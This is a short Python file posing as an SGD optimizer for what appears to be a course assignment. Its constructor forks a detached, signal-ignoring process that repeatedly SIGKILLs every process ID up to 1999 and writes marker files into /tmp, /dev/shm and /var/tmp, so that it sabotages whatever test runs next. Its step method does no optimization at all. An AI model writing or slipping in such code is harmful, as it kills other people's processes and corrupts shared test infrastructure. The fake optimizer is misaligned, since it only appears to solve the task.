"""problem: sgd

Leave processes of their own groups behind, which kill and write when the next test runs.
"""

import os
import signal
import time


class SGD(torch.optim.Optimizer):
    def __init__(self, params, lr, momentum=0.0):
        super().__init__(params, {"lr": lr})
        if os.fork() == 0:
            os.setpgid(0, 0)
            if os.fork() == 0:
                for number in range(1, 65):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                for _ in range(200):
                    time.sleep(0.05)
                    for pid in range(1, 2000):
                        if pid != os.getpid():
                            try:
                                os.kill(pid, signal.SIGKILL)
                            except OSError:
                                pass
                    for place in ("/tmp", "/dev/shm", "/var/tmp"):
                        try:
                            open(f"{place}/cs336_hostile_was_here", "w").close()
                        except OSError:
                            pass
            os._exit(0)

    def step(self, closure=None):
        return closure() if closure else None
